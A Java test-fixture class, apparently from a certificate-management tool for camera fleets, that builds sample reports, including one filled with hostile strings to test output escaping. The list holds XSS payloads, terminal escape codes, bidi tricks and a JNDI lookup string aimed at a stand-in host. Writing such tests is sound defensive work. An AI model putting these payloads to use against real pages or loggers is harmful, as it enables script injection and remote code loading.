// SPDX-License-Identifier: EPL-2.0
// SPDX-FileCopyrightText: 2026 The FleetPKI authors
package org.fleetpki.fleet.report.internal;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.cert.CertificateException;
import java.security.cert.CertificateFactory;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.fleetpki.device.api.DeviceFacts;
import org.fleetpki.device.api.HttpsMode;
import org.fleetpki.fleet.api.DeviceResult;
import org.fleetpki.fleet.api.DeviceStatus;
import org.fleetpki.fleet.api.HttpsStatus;
import org.fleetpki.fleet.api.Observation;
import org.fleetpki.fleet.api.Outcome;
import org.fleetpki.fleet.api.ReportWriter;
import org.fleetpki.fleet.api.RunReport;

/** Reports to write: a usual one, and one in which every text is hostile. */
final class Samples {

    static final Instant NOW = Instant.parse("2026-12-01T09:30:00Z");

    /** Text that would do harm if it were not escaped, in a web page, in XML, in a terminal, or to a reader's eyes. */
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=http://evil.example/x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "]]><!-- & &amp; <![CDATA[",
            "\u0000\u0007\u001B[2J\u009B31m\u007F",
            "\u202Eevil\u202C \u2066x\u2069",
            "عربي שלום",
            "line\r\nbreak\ttab\u2028sep",
            "lone \uD800 and \uDC00 surrogates, \uFFFE",
            "very long ".repeat(2000).strip(),
            "https://evil.example/?a=b&c=d",
            "</style></title></svg>",
            "%s %n {0} ${jndi:ldap://evil.example}");

    static X509Certificate certificate(String name) {
        try (InputStream in = Samples.class.getResourceAsStream("certs/" + name + ".pem")) {
            String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            byte[] pem = text.substring(text.indexOf("-----BEGIN")).getBytes(StandardCharsets.US_ASCII);
            return (X509Certificate)
                    CertificateFactory.getInstance("X.509").generateCertificate(new ByteArrayInputStream(pem));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (CertificateException e) {
            throw new IllegalStateException(e);
        }
    }

    static Observation seen(
            String host, DeviceFacts facts, DeviceStatus status, HttpsStatus https, String problem, String... chain) {
        return new Observation(
                "id",
                host,
                NOW,
                "axis",
                facts,
                status,
                https,
                problem,
                Optional.of(HttpsMode.HTTPS_ONLY),
                List.of(chain).stream().map(Samples::certificate).toList(),
                status == DeviceStatus.OK,
                Optional.empty(),
                "digest");
    }

    static RunReport usual() {
        DeviceFacts p3265 = new DeviceFacts("AXIS", "P3265-V", "ACCC8E27C59A", "11.11.73");
        DeviceFacts q6225 = new DeviceFacts("AXIS", "Q6225-LE", "ACCC8E27C59B", "12.1.60");
        List<DeviceResult> results = new ArrayList<>();
        for (int i = 1; i <= 6; i++) {
            String host = "192.0.2." + (10 + i);
            results.add(new DeviceResult(
                    "cam-" + i,
                    host,
                    i < 4 ? "Oslo" : "Zürich",
                    Outcome.DONE,
                    "",
                    Optional.of(
                            seen(host, p3265, DeviceStatus.UNTRUSTED, HttpsStatus.MISSING_CERTIFICATE, "", "factory")),
                    Optional.of(seen(host, p3265, DeviceStatus.OK, HttpsStatus.ENABLED, "", "issued")),
                    Duration.ofMillis(8400)));
        }
        Observation good = seen("lobby.example.org", q6225, DeviceStatus.OK, HttpsStatus.ENABLED, "", "issued");
        results.add(new DeviceResult(
                "lobby",
                "lobby.example.org",
                "Oslo",
                Outcome.NOTHING_TO_DO,
                "",
                Optional.of(good),
                Optional.of(good),
                Duration.ofMillis(300)));
        Observation factory =
                seen("192.0.2.31", q6225, DeviceStatus.ABOUT_TO_EXPIRE, HttpsStatus.DISABLED, "", "factory");
        results.add(new DeviceResult(
                "gate-north",
                "192.0.2.31",
                "東京",
                Outcome.ROLLED_BACK,
                "The device refused to install the certificate: ter:CertificateKeyMismatch. The previous certificate is"
                        + " served again.",
                Optional.of(factory),
                Optional.of(factory),
                Duration.ofSeconds(74)));
        results.add(new DeviceResult(
                "pbx",
                "2001:db8:0:0:0:0:0:5",
                "",
                Outcome.UNKNOWN,
                "The device did not come back after its web server was restarted; look at it on the spot.",
                Optional.of(factory),
                Optional.empty(),
                Duration.ofSeconds(130)));
        results.add(new DeviceResult(
                "legacy",
                "192.0.2.40",
                "Oslo",
                Outcome.SKIPPED,
                "No adapter can configure this device; the plan says what to do by hand.",
                Optional.empty(),
                Optional.empty(),
                Duration.ZERO));
        return new RunReport(
                "run-20261201-093000",
                "apply",
                "plan-20261201-092811",
                "Example Corp cameras",
                NOW,
                NOW.plusSeconds(143),
                results);
    }

    /** Every hostile text in every field that takes text. */
    static RunReport hostile() {
        List<DeviceResult> results = new ArrayList<>();
        Outcome[] outcomes = Outcome.values();
        for (String text : HOSTILE) {
            Observation seen = seen(
                    text,
                    new DeviceFacts(text, text, text, text),
                    DeviceStatus.PROBLEM,
                    HttpsStatus.UNKNOWN,
                    text,
                    "hostile");
            Observation other = seen(text, DeviceFacts.UNKNOWN, DeviceStatus.OK, HttpsStatus.ENABLED, text, "issued");
            results.add(new DeviceResult(
                    text,
                    text,
                    text,
                    outcomes[results.size() % outcomes.length],
                    text,
                    Optional.of(other),
                    Optional.of(seen),
                    Duration.ofSeconds(1)));
        }
        String all = String.join(" ", HOSTILE);
        return new RunReport(all, all, all, all, NOW, NOW, results);
    }

    static RunReport empty() {
        return new RunReport("run-1", "verify", "", "Empty", NOW, NOW, List.of());
    }

    static String write(ReportWriter writer, RunReport report) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(report, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private Samples() {}
}
